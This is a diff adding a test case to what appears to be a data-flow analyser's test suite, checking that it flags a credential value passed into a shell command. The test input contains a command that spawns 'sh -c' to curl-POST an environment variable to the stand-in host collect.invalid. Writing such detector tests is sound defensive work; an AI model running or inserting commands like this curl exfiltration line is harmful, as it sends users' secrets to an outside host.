@@ -48,4 +48,13 @@ describe('commands', () => {
       assert.ok(flowsOf(`${fetched} cp.fork('./x.js', [], ${more}); });`).includes('downloaded>loaded-as-module'));
     }
   });
+
+  it('send what the code has put into variables that they name', () => {
+    const run = (env: string): readonly string[] =>
+      flowsOf(
+        `cp.spawn('sh', ['-c', 'curl -s -d "$DATA" https://collect.invalid'], { env: { ...process.env, ${env} } });`,
+      );
+    assert.deepEqual(run('DATA: s'), ['credential-file>command-argument@collect.invalid']);
+    assert.deepEqual(run(`DATA: 'hello', OTHER: s`), []);
+  });
 });
